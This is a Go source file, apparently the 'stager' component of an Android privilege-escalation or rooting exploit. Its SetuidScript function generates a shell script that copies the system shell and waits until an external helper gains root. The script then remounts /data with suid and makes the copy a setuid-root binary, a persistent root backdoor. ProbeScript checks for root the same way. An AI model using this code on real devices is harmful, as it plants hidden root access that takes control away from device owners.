package stager

import (
	"fmt"
	"path"
	"strings"
)

// SetuidScript copies the device shell to target and, once the helper
// holds root, makes it a setuid-root binary. The chown loop is the
// readiness signal the patch is waited on with.
func SetuidScript(target string) string {
	return fmt.Sprintf(`#!/system/bin/sh
cp /system/bin/sh %[1]s
while :; do
  sleep 5
  if chown root:root %[1]s; then break; fi
done
mount -o suid,remount /data
chmod 4755 %[1]s`, target)
}

// ProbeScript waits until the helper can chown a probe file to root and
// then removes it
func ProbeScript(probe string) string {
	return fmt.Sprintf(`#!/system/bin/sh
cp /system/bin/sh %[1]s
while :; do
  sleep 5
  if chown root:root %[1]s; then break; fi
done
sleep 5
rm %[1]s`, probe)
}

// ResolvePath places relative names inside dir
func ResolvePath(dir, name string) string {
	if path.IsAbs(name) {
		return path.Clean(name)
	}
	return path.Join(dir, name)
}

// ValidPath rejects paths that would break the single-quoted echo used to
// push scripts
func ValidPath(p string) error {
	if p == "" || strings.ContainsAny(p, "'\"\n\t ;&|$`\\") {
		return fmt.Errorf("unsupported device path %q", p)
	}
	return nil
}
